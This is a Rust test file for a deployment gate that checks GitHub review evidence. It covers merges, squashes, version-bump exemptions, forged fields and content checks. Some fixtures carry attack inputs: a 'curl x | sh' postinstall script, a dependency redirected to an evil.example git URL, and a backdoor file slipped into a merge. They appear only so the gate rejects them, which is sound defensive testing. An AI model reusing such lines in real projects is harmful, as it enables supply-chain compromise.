        landing(&r, 0, Verdict::Fail, Code::MergeContentUnchecked);
        assert!(r.landings[0].findings[0].detail.contains("signature was not verified"), "{r:#?}");
    }

    #[test]
    fn a_signed_web_flow_merge_that_is_not_the_pull_requests_merge_commit_goes_to_a_person() {
        // GitHub's merges API and web edits make signed web-flow commits too.
        let c = Case::new();
        let (p, f, m) = merged(&c.g, 1, "f", "alice", 1);
        let mut p = c.approve(p, "bob", 1);
        // The pull request says GitHub merged it as another commit.
        p.merge_commit = Some(f[0].clone());
        let (r, e) = c.judge(vec![p]);
        assert_eq!(e.range.landings, std::slice::from_ref(&m));
        assert_ne!(r.landings[0].verdict, Verdict::Pass, "{r:#?}");
    }
}

#[test]
fn tc53_tc54_reverts_and_backports_need_their_own_approval() {
    let c = Case::new();
    let (p1, _, m1) = merged(&c.g, 1, "f", "alice", 1);
    c.g.run(&["checkout", "-q", "-b", "revert", "main"]);
    c.g.run(&["-c", "user.name=alice", "-c", "user.email=alice@acme.test", "revert", "--no-edit", "-m", "1", &m1]);
    let rv = c.g.head();
    c.g.run(&["checkout", "-q", "main"]);
    let m2 = c.g.merge("revert", "Merge pull request #2 from acme/revert");
    let p2 = Pull::merged(2, "alice", &rv, std::slice::from_ref(&rv), &m2, std::slice::from_ref(&m2));
    let (r, _) = c.judge(vec![c.approve(p1, "bob", 1), p2]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    landing(&r, 1, Verdict::Fail, Code::NoApproval);
}

#[test]
fn tc55_an_octopus_merge_fails() {
    let c = Case::new();
    let a = c.g.feature("a", "alice", 1);
    let b = c.g.feature("b", "carol", 1);
    c.g.as_github("dana", &["merge", "-q", "--no-ff", "a", "b", "-m", "Octopus"]);
    let _ = (a, b);
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Fail, Code::OctopusMerge);
}

// Version-bump exemption.

fn bump_commit(c: &Case, who: &str, files: &[(&str, &str)], msg: &str) -> String {
    for (f, text) in files {
        c.g.write(f, text);
    }
    c.g.commit(who, msg)
}

const PKG_110: &str = "{\n  \"name\": \"web\",\n  \"version\": \"1.1.0\"\n}\n";

#[test]
fn tc56_an_approved_release_pull_request_passes_the_normal_way() {
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "release", "main"]);
    let a = bump_commit(&c, "release-bot", &[("package.json", PKG_110)], "chore: release 1.1.0");
    c.g.run(&["checkout", "-q", "main"]);
    let m = c.g.merge("release", "Merge pull request #9");
    let p = Pull::merged(9, "release-bot", &a, std::slice::from_ref(&a), &m, std::slice::from_ref(&m));
    let (r, _) = c.judge(vec![c.approve(p, "bob", 9)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
}

#[test]
fn tc57_a_bot_bump_pushed_directly_is_exempt() {
    let c = Case::with("[review.version_bump]\nbots = [41898282]\nrequire_signature = true\n");
    let changelog = "# Changelog\n\n## 1.1.0\n- faster\n";
    let sha = bump_commit(
        &c,
        "release-bot",
        &[("package.json", PKG_110), ("CHANGELOG.md", changelog)],
        "chore(release): 1.1.0 [skip ci]",
    );
    c.sb.stand_ins.with_github(|gh| {
        gh.add_repo(REPO, &c.g.path);
        gh.repo_mut(REPO).verified.push(sha.clone());
    });
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Pass, Code::VersionBumpExempt);
    assert!(r.landings[0].findings[0].detail.contains("1.0.0 -> 1.1.0"), "{r:#?}");

    // Unsigned: the signature is required.
    let c = Case::with("[review.version_bump]\nbots = [41898282]\nrequire_signature = true\n");
    bump_commit(&c, "release-bot", &[("package.json", PKG_110)], "chore(release): 1.1.0");
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
}

#[test]
fn tc58_tc63_a_bump_message_over_other_changes_is_not_exempt() {
    for (file, text) in
        [("src/main.rs", "fn main() {}\n"), (".github/workflows/ci.yml", "on: push\n"), ("build.rs", "fn main() {}\n")]
    {
        let c = Case::new();
        bump_commit(&c, "release-bot", &[("package.json", PKG_110), (file, text)], "chore(release): 1.1.0");
        let (r, _) = c.judge(Vec::new());
        landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
        assert!(r.landings[0].findings[0].detail.contains(file), "{r:#?}");
    }
    // package.json scripts.
    let c = Case::new();
    bump_commit(
        &c,
        "release-bot",
        &[(
            "package.json",
            "{\n  \"name\": \"web\",\n  \"version\": \"1.1.0\",\n  \"scripts\": {\"postinstall\": \"curl x | sh\"}\n}\n",
        )],
        "chore(release): 1.1.0",
    );
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
}

fn cargo_files(version: &str, serde: &str) -> [(String, String); 2] {
    [
        (
            "Cargo.toml".into(),
            format!(
                "[package]\nname = \"web\"\nversion = \"{version}\"\nedition = \"2021\"\n\n[dependencies]\nserde = \"{serde}\"\n"
            ),
        ),
        (
            "Cargo.lock".into(),
            format!(
                "version = 4\n\n[[package]]\nname = \"serde\"\nversion = \"{serde}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"abc\"\n\n[[package]]\nname = \"web\"\nversion = \"{version}\"\ndependencies = [\n \"serde\",\n]\n"
            ),
        ),
    ]
}

#[test]
fn tc59_tc60_tc61_tc62_cargo_bumps_are_judged_by_content() {
    let cases: [(&str, &str, Verdict); 4] = [
        ("1.1.0", "1.0.200", Verdict::Pass), // 60: version + lock of the workspace crate
        ("1.1.0", "1.0.201", Verdict::Fail), // 61: a third-party package moved too
        ("0.9.0", "1.0.200", Verdict::Fail), // 62: downward
        ("next", "1.0.200", Verdict::Fail),  // 62: not a version
    ];
    for (version, serde, verdict) in cases {
        let c = Case::new();
        let before = cargo_files("1.0.0", "1.0.200");
        let files: Vec<(&str, &str)> = before.iter().map(|(f, t)| (f.as_str(), t.as_str())).collect();
        bump_commit(&c, "dana", &files, "add the crate");
        let base = c.g.head();
        let after = cargo_files(version, serde);
        let files: Vec<(&str, &str)> = after.iter().map(|(f, t)| (f.as_str(), t.as_str())).collect();
        bump_commit(&c, "release-bot", &files, "chore: release");
        let c = Case { base, ..c };
        let (r, _) = c.judge(Vec::new());
        assert_eq!(r.landings[0].verdict, verdict, "{version} {serde}: {r:#?}");
    }
    // 59: a new dependency.
    let c = Case::new();
    let before = cargo_files("1.0.0", "1.0.200");
    let files: Vec<(&str, &str)> = before.iter().map(|(f, t)| (f.as_str(), t.as_str())).collect();
    bump_commit(&c, "dana", &files, "add the crate");
    let base = c.g.head();
    let toml = format!("{}rand = \"0.8\"\n", cargo_files("1.1.0", "1.0.200")[0].1);
    bump_commit(&c, "release-bot", &[("Cargo.toml", &toml)], "chore: release");
    let c = Case { base, ..c };
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
    assert!(r.landings[0].findings[0].detail.contains("rand"), "{r:#?}");
}

#[test]
fn tc64_a_rename_in_a_bump_is_not_exempt() {
    let c = Case::new();
    c.g.write("VERSION", "1.0.0\n");
    c.g.commit("dana", "version file");
    let base = c.g.head();
    c.g.run(&["mv", "VERSION", "version.txt"]);
    c.g.write("version.txt", "1.1.0\n");
    c.g.commit("release-bot", "chore: release 1.1.0");
    let c = Case { base, ..c };
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
}

/// A cargo-release bump whose `pre-release-replacements` rewrite the
/// README's dependency line and `html_root_url`: the files' texts are
/// collected, and the bump passes only through the allow-list entries.
#[test]
fn tc65_cargo_release_replacements_need_an_entry_and_matching_lines() {
    const ENTRIES: &str = r#"
[[review.version_bump.replacements]]
file = "README.md"
pattern = 'web = "[0-9]+\.[0-9]+\.[0-9]+"'

[[review.version_bump.replacements]]
file = "src/lib.rs"
pattern = '#!\[doc\(html_root_url = "https://docs\.rs/web/[0-9]+\.[0-9]+\.[0-9]+"\)\]'
"#;
    let readme = |v: &str| format!("# web\n\n```toml\n[dependencies]\nweb = \"{v}\"\n```\n\nSee the docs.\n");
    let lib = |v: &str| format!("#![doc(html_root_url = \"https://docs.rs/web/{v}\")]\n\npub fn f() {{}}\n");
    // The release: Cargo.toml and Cargo.lock, plus the two replacements.
    let release = |config: &str, readme_after: &str| {
        let c = Case::with(config);
        let before = cargo_files("1.0.0", "1.0.200");
        let mut files: Vec<(&str, &str)> = before.iter().map(|(f, t)| (f.as_str(), t.as_str())).collect();
        let (r0, l0) = (readme("1.0.0"), lib("1.0.0"));
        files.extend([("README.md", r0.as_str()), ("src/lib.rs", l0.as_str())]);
        bump_commit(&c, "dana", &files, "add the crate");
        let base = c.g.head();
        let after = cargo_files("1.1.0", "1.0.200");
        let mut files: Vec<(&str, &str)> = after.iter().map(|(f, t)| (f.as_str(), t.as_str())).collect();
        let l1 = lib("1.1.0");
        files.extend([("README.md", readme_after), ("src/lib.rs", l1.as_str())]);
        bump_commit(&c, "release-bot", &files, "chore: Release web version 1.1.0");
        let c = Case { base, ..c };
        c.judge(Vec::new())
    };
    let r1 = readme("1.1.0");
    // With the entries: exempt, the replaced lines listed.
    let (r, e) = release(ENTRIES, &r1);
    landing(&r, 0, Verdict::Pass, Code::VersionBumpExempt);
    let detail = &r.landings[0].findings[0].detail;
    assert!(detail.contains("README.md: line 5 ") && detail.contains("src/lib.rs: line 1 "), "{detail}");
    let sha = &r.landings[0].sha;
    assert!(e.landing_files[sha].version_files["README.md"].before.as_deref() == Some(readme("1.0.0").as_str()));
    // Without them: catalogue 65 fails.
    let (r, _) = release("", &r1);
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
    assert!(r.landings[0].findings[0].detail.contains("README.md is not an allow-listed version file"), "{r:#?}");
    // Another line of the README changed too: the first offending line is named.
    let (r, _) = release(ENTRIES, &r1.replace("See the docs.", "See the docs at evil.example."));
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
    assert!(
        r.landings[0].findings[0].detail.contains(r#"README.md: line 8 before, "See the docs.", does not match"#),
        "{r:#?}"
    );
    // The new line does not match the pattern.
    let (r, _) = release(ENTRIES, &r1.replace(r#"web = "1.1.0""#, r#"web = { git = "https://evil.example/web" }"#));
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
    assert!(r.landings[0].findings[0].detail.contains("README.md: line 5 after,"), "{r:#?}");
}

#[test]
fn tc66_a_changesets_version_packages_commit_is_exempt() {
    let c = Case::new();
    c.g.write(".changeset/brave-fox.md", "---\n\"web\": minor\n---\nFaster\n");
    c.g.write("CHANGELOG.md", "# web\n");
    c.g.commit("dana", "add a changeset");
    let base = c.g.head();
    c.g.run(&["rm", "-q", ".changeset/brave-fox.md"]);
    c.g.write("package.json", PKG_110);
    c.g.write("CHANGELOG.md", "# web\n\n## 1.1.0\n\n- Faster\n");
    c.g.commit("release-bot", "Version Packages");
    let c = Case { base, ..c };
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Pass, Code::VersionBumpExempt);
}

#[test]
fn tc67_a_human_bump_depends_on_identity_hardening() {
    for (cfg, verdict) in [("", Verdict::Pass), ("[review.version_bump]\nbots = [41898282]\n", Verdict::Fail)] {
        let c = Case::with(cfg);
        bump_commit(&c, "dana", &[("package.json", PKG_110)], "1.1.0");
        let (r, _) = c.judge(Vec::new());
        assert_eq!(r.landings[0].verdict, verdict, "{cfg}: {r:#?}");
    }
}

#[test]
fn tc68_a_squashed_release_with_a_feature_is_not_exempt() {
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "release", "main"]);
    let a = bump_commit(&c, "release-bot", &[("package.json", PKG_110)], "chore: release 1.1.0");
    let b = bump_commit(&c, "alice", &[("src.rs", "feature\n")], "sneak a feature in");
    c.g.run(&["checkout", "-q", "main"]);
    let s = c.g.squash("release", "chore: release 1.1.0 (#9)");
    let (r, e) = c.judge(vec![c.approve(
        Pull::merged(9, "release-bot", &b, &[a, b.clone()], &s, std::slice::from_ref(&s)),
        "bob",
        9,
    )]);
    landing(&r, 0, Verdict::Fail, Code::SquashLandingNotReviewedSha);
    assert!(!e.landing_files.contains_key(&s), "a pull request changing other files is not a bump candidate");
    // The same squash of only the version bump is exempt.
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "release", "main"]);
    let a = bump_commit(&c, "release-bot", &[("package.json", PKG_110)], "chore: release 1.1.0");
    c.g.run(&["checkout", "-q", "main"]);
    let s = c.g.squash("release", "chore: release 1.1.0 (#9)");
    let (r, _) =
        c.judge(vec![Pull::merged(9, "release-bot", &a, std::slice::from_ref(&a), &s, std::slice::from_ref(&s))]);
    landing(&r, 0, Verdict::Pass, Code::VersionBumpExempt);
}

// Operational: fail closed.

#[test]
fn tc91_tc93_faults_and_partial_reads_are_undecidable() {
    for path in ["/graphql", "/compare/"] {
        let c = Case::new();
        let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
        register(&c.sb, &c.g.path, vec![c.approve(p, "bob", 1)]);
        deployed(&c.sb, &c.base);
        c.sb.fault(json!({"service": "github", "path_contains": path, "status": 502, "times": 100}));
        let (r, _) = c.judge_again(&c.g.head());
        assert_eq!(r.verdict, Verdict::Undecidable, "{path}: {r:#?}");
        assert!(r.findings.iter().any(|f| f.code == Code::EvidenceIncomplete));
    }
    // A partial read of a long connection.
    let c = Case::new();
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
    for i in 0..150 {
        p.reviews.push(review(100 + i, "carol", "COMMENTED", "2026-11-20T09:00:00Z", &f[0]));
    }
    register(&c.sb, &c.g.path, vec![c.approve(p, "bob", 1)]);
    deployed(&c.sb, &c.base);
    c.sb.fault(json!({"service": "github", "method": "POST", "path_contains": "/graphql", "status": 502, "times": 100, "body_contains": "PullPage"}));
    let (r, _) = c.judge_again(&c.g.head());
    assert_ne!(r.verdict, Verdict::Pass, "{r:#?}");
}

// Property: forgeable inputs never turn a fail into a pass.

/// A small deterministic generator (xorshift64*): the same cases every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[(self.next() % from.len() as u64) as usize]
    }
}

/// Messages, trailers and names anyone can write.
fn forge(rng: &mut Rng, v: &mut Value) {
    const HEADLINES: &[&str] = &[
        "Merge pull request #1 from acme/f",
        "Merge pull request #2 from acme/g",
        "Feature (#1)",
        "Feature (#2)",
        "Feature (#3)",
        "chore(release): 9.9.9 [skip ci]",
        "Version Packages",
        "Reviewed-by: bob <bob@acme.test>",
        "Co-authored-by: bob <bob@acme.test>",
        "Approved-by: carol",
        "Revert \"Feature (#1)\"",
        "",
    ];
    const LOGINS: &[&str] = &[
        "bob",
        "alice",
        "carol",
        "release-bot",
        "release-bot[bot]",
        "dependabot[bot]",
        "web-flow",
        "svc_release",
        "ghost",
    ];
    if let Some(commits) = v["range"]["commits"].as_array_mut() {
        for c in commits {
            if rng.next().is_multiple_of(2) {
                c["headline"] = json!(rng.pick(HEADLINES));
            }
        }
    }
    if let Some(pulls) = v["pulls"].as_object_mut() {
        for p in pulls.values_mut() {
            if p["author"].is_object() && rng.next().is_multiple_of(2) {
                p["author"]["login"] = json!(rng.pick(LOGINS));
            }
            for r in p["reviews"].as_array_mut().into_iter().flatten() {
                if r["author"].is_object() && rng.next().is_multiple_of(2) {
                    r["author"]["login"] = json!(rng.pick(LOGINS));
                }
            }
            for t in p["timeline"].as_array_mut().into_iter().flatten() {
                if t["actor"].is_object() && rng.next().is_multiple_of(2) {
                    t["actor"]["login"] = json!(rng.pick(LOGINS));
                }
            }
        }
    }
}

#[test]
fn forgeable_fields_never_turn_a_fail_into_a_pass() {
    let c = Case::with("[review.version_bump]\nbots = [41898282]\n");
    // A human's direct version bump (bots required), a self-approved
    // merge, a stale approval, a strict squash, a direct push.
    bump_commit(&c, "dana", &[("package.json", PKG_110)], "chore(release): 1.1.0");
    let (p1, _, _) = merged(&c.g, 1, "f", "alice", 1);
    let p1 = c.approve(p1, "alice", 1);
    let (mut p2, f2, _) = merged(&c.g, 2, "g", "carol", 2);
    p2.reviews.push(review(2, "bob", "APPROVED", "2026-11-20T10:00:00Z", &f2[0]));
    let f3 = c.g.feature("h", "alice", 1);
    let s3 = c.g.squash("h", "Feature (#3)");
    let p3 = c.approve(Pull::merged(3, "alice", &f3[0], &f3, &s3, std::slice::from_ref(&s3)), "bob", 3);
    c.g.write("hotfix.txt", "x\n");
    c.g.commit("mallory", "hotfix");
    let (r, e) = c.judge(vec![p1, p2, p3]);
    let failing: Vec<usize> = (0..r.landings.len()).filter(|i| r.landings[*i].verdict == Verdict::Fail).collect();
    assert_eq!(failing.len(), 5, "{r:#?}");
    let original = serde_json::to_value(&e).unwrap();
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    for round in 0..300 {
        let mut v = original.clone();
        forge(&mut rng, &mut v);
        let (r2, _) = c.decide(&v);
        assert_ne!(r2.verdict, Verdict::Pass, "round {round}");
        for i in &failing {
            assert_ne!(r2.landings[*i].verdict, Verdict::Pass, "round {round}, landing {i}: {:#?}", r2.landings[*i]);
        }
    }
}

/// Content checks with git objects (`--features git-objects`): the landed
/// tree against the merge of the landing's parent with the approved head,
/// computed from the repository fetched into a temporary bare repository.
#[cfg(feature = "git-objects")]
mod content {
    use super::*;

    #[test]
    fn tc45_a_merge_whose_tree_is_the_merge_passes_checked() {
        let c = Case::new();
        // Main moves on meanwhile: the merge is a real three-way merge.
        let f = c.g.feature("f", "alice", 2);
        c.g.write("other.txt", "from main\n");
        c.g.commit("dana", "main moves on");
        let m = c.g.merge("f", "Merge pull request #1 from acme/f");
        let (r, e) =
            c.judge(vec![c.approve(Pull::merged(1, "alice", &f[1], &f, &m, std::slice::from_ref(&m)), "bob", 1)]);
        assert!(e.content.available, "{:?}", e.content);
        let check = &e.content.checks[&m];
        assert_eq!(check.merged_tree.as_deref(), Some(check.landed_tree.as_str()), "{check:?}");
        let l = r.landings.iter().find(|l| l.sha == m).unwrap();
        assert_eq!((l.verdict, l.findings[0].code), (Verdict::Pass, Code::Approved), "{l:#?}");
        assert!(!l.flags.iter().any(|f| f.code == Code::ContentUnchecked), "checked: {l:#?}");
    }

    #[test]
    fn tc46_a_hand_made_merge_with_extra_content_fails() {
        let c = Case::new();
        let f = c.g.feature("f", "alice", 1);
        c.g.as_github("dana", &["merge", "-q", "--no-ff", "--no-commit", "f"]);
        c.g.write("backdoor.txt", "extra\n");
        c.g.run(&["add", "backdoor.txt"]);
        c.g.as_github("dana", &["commit", "-q", "-m", "Merge pull request #1 from acme/f"]);
        let m = c.g.head();
        let (r, _) =
            c.judge(vec![c.approve(Pull::merged(1, "alice", &f[0], &f, &m, std::slice::from_ref(&m)), "bob", 1)]);
        landing(&r, 0, Verdict::Fail, Code::MergeContentMismatch);
    }

    #[test]
    fn tc48_tc50_verified_squash_and_rebase_pass_when_the_trees_match() {
        let c = Case::with("[review]\nmode = \"verified-squash\"\n");
        let f2 = c.g.feature("f2", "alice", 2);
        let s2 = c.g.squash("f2", "Feature two (#2)");
        let f3 = c.g.feature("f3", "carol", 2);
        let r3 = c.g.rebase(&f3);
        let pulls = vec![
            c.approve(Pull::merged(2, "alice", &f2[1], &f2, &s2, std::slice::from_ref(&s2)), "bob", 2),
            c.approve(Pull::merged(3, "carol", &f3[1], &f3, &r3[1], &r3), "bob", 3),
        ];
        let (r, _) = c.judge(pulls);
        assert_eq!(r.verdict, Verdict::Pass, "{r:#?}");
        for i in 0..3 {
            landing(&r, i, Verdict::Pass, Code::Approved);
        }
    }

    #[test]
    fn tc49_a_squash_with_other_content_fails_in_both_modes_as_a_content_mismatch() {
        // Strict mode names the content mismatch first, then its own code.
        for (mode, want) in [
            ("verified-squash", &[Code::SquashContentMismatch][..]),
            ("strict", &[Code::SquashContentMismatch, Code::SquashLandingNotReviewedSha][..]),
        ] {
            let c = Case::with(&format!("[review]\nmode = \"{mode}\"\n"));
            let f = c.g.feature("f", "alice", 1);
            c.g.run(&["merge", "-q", "--squash", "f"]);
            c.g.write("amended.txt", "not reviewed\n");
            c.g.run(&["add", "amended.txt"]);
            c.g.as_github("dana", &["commit", "-q", "-m", "Feature (#2)"]);
            let s = c.g.head();
            let (r, _) =
                c.judge(vec![c.approve(Pull::merged(2, "alice", &f[0], &f, &s, std::slice::from_ref(&s)), "bob", 2)]);
            landing(&r, 0, Verdict::Fail, want[0]);
            assert_eq!(&codes(&r, 0)[..want.len()], want, "{mode}");
        }
    }

    #[test]
    fn a_fetch_that_fails_is_a_gap_never_a_pass() {
        let c = Case::with("[review]\nmode = \"verified-squash\"\n");
        let f = c.g.feature("f", "alice", 1);
        let s = c.g.squash("f", "Feature (#2)");
        register(
            &c.sb,
            &c.g.path,
            vec![c.approve(Pull::merged(2, "alice", &f[0], &f, &s, std::slice::from_ref(&s)), "bob", 2)],
        );
        deployed(&c.sb, &c.base);
        // Point the fetch at a repository that does not exist.
        let p = crate::collect::pipeline(&c.sb, &s);
        assert_eq!(c.sb.request(&p, &[]).code, 0);
        let key = c.sb.state()["ticket"].as_str().unwrap().to_owned();
        let out =
            c.sb.job(&p, ["collect", &key, "-o", "evidence.json"])
                .env("GITHUB_API_URL", &c.sb.stand_ins.url())
                .env("GITHUB_TOKEN", changegate::standins::github::TOKEN)
                .env("CHANGEGATE_GIT_URL", "/nonexistent/repository")
                .run();
        assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
        let e: Value =
            serde_json::from_str(&std::fs::read_to_string(c.sb.path().join("evidence.json")).unwrap()).unwrap();
        assert!(e["gaps"].as_array().unwrap().iter().any(|g| g["what"] == "git objects"), "{}", e["gaps"]);
        let (r, _) = c.decide(&e);
        assert_eq!(r.verdict, Verdict::Undecidable);
    }
}

/// A record that contradicts itself is undecidable, naming the
/// contradiction (`docs/evidence.md`): crafted from a real record.
mod contradictions {
    use changegate::analyze::decide_with;
    use changegate::{PolicyCode, Recommendation};

    use super::*;

    /// Two merges of approved pull requests: a record that passes review.
    fn record() -> (Case, Value, [String; 2]) {
        let c = Case::new();
        let (p1, _, m1) = merged(&c.g, 1, "f", "alice", 1);
        let (p2, _, m2) = merged(&c.g, 2, "g", "carol", 2);
        let (r, e) = c.judge(vec![c.approve(p1, "bob", 1), c.approve(p2, "bob", 2)]);
        assert_eq!(r.verdict, Verdict::Pass, "{r:#?}");
        let v = serde_json::to_value(&e).unwrap();
        assert!(contradictions(&c, &v).is_empty());
        (c, v, [m1, m2])
    }

    /// The contradictions `decide` names; a record with any is never approved.
    fn contradictions(c: &Case, v: &Value) -> Vec<String> {
        let e = Evidence::from_json(&v.to_string()).unwrap();
        let config = Config::parse(&c.config, "test", changegate::Date::today_utc()).unwrap();
        let d = decide_with(&e, &config);
        let found: Vec<String> =
            d.reasons.iter().filter(|r| r.code == PolicyCode::EvidenceInconsistent).map(|r| r.detail.clone()).collect();
        if !found.is_empty() {
            // Undecidable at least (this case has no scanner, which fails).
            assert!(d.verdict >= Verdict::Undecidable, "{:?}", d.verdict);
            assert_eq!(d.recommendation, Recommendation::ManualReview);
        }
        found
    }

    #[track_caller]
    fn names(c: &Case, v: &Value, what: &str) {
        let found = contradictions(c, v);
        assert!(found.iter().any(|f| f.contains(what)), "want {what:?} in {found:?}");
    }

    /// A tree check of `landing` that agrees with the record.
    fn check(v: &Value, landing: &str) -> Value {
        let commit = v["range"]["commits"].as_array().unwrap().iter().find(|c| c["sha"] == landing).unwrap();
        let tree = commit["tree"].clone();
        let head = commit["parents"][1].clone();
        json!({"parent": commit["parents"][0], "head": head, "landed_tree": tree, "merged_tree": tree,
               "conflict": false, "error": null})
    }

    #[test]
    fn a_consistent_tree_check_is_no_contradiction() {
        let (c, mut v, [m1, m2]) = record();
        v["content"]["available"] = json!(true);
        v["content"]["checks"] = json!({m1.clone(): check(&v, &m1), m2.clone(): check(&v, &m2)});
        assert!(contradictions(&c, &v).is_empty());
    }

    #[test]
    fn tree_checks_while_content_is_marked_unavailable() {
        let (c, mut v, [m1, _]) = record();
        v["content"]["checks"] = json!({m1.clone(): check(&v, &m1)});
        names(&c, &v, "content is marked unavailable");
    }

    #[test]
    fn a_tree_check_whose_landed_tree_is_not_the_commits_tree() {
        let (c, mut v, [m1, _]) = record();
        let mut k = check(&v, &m1);
        k["landed_tree"] = json!("e".repeat(40));
        k["merged_tree"] = k["landed_tree"].clone();
        v["content"] = json!({"available": true, "checks": {m1.clone(): k}, "source": "test"});
        names(&c, &v, "but the commit's tree is");
    }

    #[test]
    fn a_tree_check_merged_onto_another_parent_than_the_landings() {
        let (c, mut v, [m1, m2]) = record();
        let mut k = check(&v, &m2);
        k["parent"] = json!(c.base.clone());
        v["content"] = json!({"available": true, "checks": {m2.clone(): k}, "source": "test"});
        names(&c, &v, "which is not the parent it landed on");
        let _ = m1;
    }

    #[test]
    fn a_tree_check_of_a_commit_that_is_not_a_landing() {
        let (c, mut v, _) = record();
        let inner = v["range"]["commits"][0]["sha"].as_str().unwrap().to_owned();
        assert!(!v["range"]["landings"].as_array().unwrap().contains(&json!(inner)));
        v["content"] = json!({"available": true, "checks": {inner.clone(): {"parent": c.base, "head": inner,
            "landed_tree": "e".repeat(40), "merged_tree": "e".repeat(40), "conflict": false, "error": null}}, "source": "t"});
        names(&c, &v, "which is not a landing");
    }

    #[test]
    fn a_range_with_fewer_commits_than_github_counts() {
        let (c, mut v, _) = record();
        let n = v["range"]["total_commits"].as_u64().unwrap();
        v["range"]["total_commits"] = json!(n + 1);
        names(&c, &v, "are listed and no gap says why");
    }

    #[test]
    fn a_range_missing_a_landing_that_reaches_the_base() {
        // The first landing and its side commits left out of the record.
        let (c, mut v, [m1, _]) = record();
        let side: Vec<Value> = v["range"]["commits"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|x| x["sha"] == m1.as_str() || x["parents"][0] == c.base.as_str() && x["sha"] != m1.as_str())
            .map(|x| x["sha"].clone())
            .collect();
        v["range"]["commits"].as_array_mut().unwrap().retain(|x| !side.contains(&x["sha"]));
        v["range"]["total_commits"] = json!(v["range"]["commits"].as_array().unwrap().len());
        v["range"]["landings"].as_array_mut().unwrap().retain(|x| *x != m1.as_str());
        names(&c, &v, "do not reach the base");
    }

    #[test]
    fn landings_that_are_not_the_first_parent_chain() {
        let (c, mut v, [m1, _]) = record();
        v["range"]["landings"].as_array_mut().unwrap().retain(|x| *x != m1.as_str());
        names(&c, &v, "not the first-parent chain");
    }

    #[test]
    fn a_listed_commit_that_is_not_an_ancestor_of_the_deployed_commit() {
        let (c, mut v, _) = record();
        let mut stray = v["range"]["commits"][0].clone();
        stray["sha"] = json!("5".repeat(40));
        stray["parents"] = json!([c.base.clone()]);
        v["range"]["commits"].as_array_mut().unwrap().push(stray);
        v["range"]["total_commits"] = json!(v["range"]["commits"].as_array().unwrap().len());
        names(&c, &v, "is not an ancestor of");
    }

    #[test]
    fn an_identical_range_whose_base_is_another_commit() {
        let (c, mut v, _) = record();
        v["range"] = json!({"status": "identical", "total_commits": 0, "commits": [], "landings": [], "source": "t"});
        names(&c, &v, "the range is identical, but the base is not");
    }

    #[test]
    fn a_pull_request_recorded_under_another_number() {
        let (c, mut v, _) = record();
        let p = v["pulls"].as_object_mut().unwrap().remove("1").unwrap();
        v["pulls"]["7"] = p;
        names(&c, &v, "recorded under #7 is #1");
    }
}

/// Changes to what wires the gate need a person: anything under
/// `.circleci/` (the orb version pinned there included), the policy files
/// the bot's policy names, and those a deploy's request used.
mod watched_files {
    use changegate::PolicyCode;
    use changegate::RECORD_PROPERTY;
    use changegate::analyze::decide_with;

    use super::*;
    use crate::support::sandbox::CI;

    /// The reasons of the decision on the current head, with `extra_path`
    /// added to the ticket's record as a configuration file its request used.
    fn reasons(c: &Case, pulls: Vec<Pull>, extra_path: Option<&str>) -> Vec<(PolicyCode, String)> {
        register(&c.sb, &c.g.path, pulls);
        deployed(&c.sb, &c.base);
        c.sb.stand_ins.with_github(|gh| gh.add_repo(REPO, &c.g.path));
        let p = crate::collect::pipeline(&c.sb, &c.g.head());
        assert_eq!(c.sb.request(&p, &[]).code, 0);
        let key = c.sb.state()["ticket"].as_str().unwrap().to_owned();
        let jira = c.sb.jira_as(CI);
        let mut record = jira.property(&key, RECORD_PROPERTY).unwrap().unwrap();
        assert_eq!(record["config_paths"], json!(["changegate.toml"]), "the request records the file it read");
        if let Some(path) = extra_path {
            record["config_paths"].as_array_mut().unwrap().push(json!(path));
            jira.set_property(&key, RECORD_PROPERTY, &record).unwrap();
        }
        let (v, out) = collect_key(&c.sb, &p, &key);
        assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
        let e = Evidence::from_json(&v.to_string()).unwrap();
        let config = Config::parse(&c.config, "test", changegate::Date::today_utc()).unwrap();
        decide_with(&e, &config).reasons.into_iter().map(|r| (r.code, r.detail)).collect()
    }

    fn landed(c: &Case, n: u64, files: &[(&str, &str)]) -> Pull {
        let name = format!("f{n}");
        c.g.run(&["checkout", "-q", "-b", &name, "main"]);
        for (f, text) in files {
            c.g.write(f, text);
        }
        let head = c.g.commit("alice", "change");
        c.g.run(&["checkout", "-q", "main"]);
        let m = c.g.merge(&name, &format!("Merge pull request #{n} from acme/{name}"));
        c.approve(Pull::merged(n, "alice", &head, std::slice::from_ref(&head), &m, std::slice::from_ref(&m)), "bob", n)
    }

    fn with_base(extra: &str, files: &[(&str, &str)]) -> Case {
        let c = Case::with(extra);
        for (f, text) in files {
            c.g.write(f, text);
        }
        let base = c.g.commit("dana", "pipeline");
        Case { base, ..c }
    }

    const CONFIG: &str = "version: 2.1\norbs:\n  changegate: acme/changegate@1.4.0\n";

    #[test]
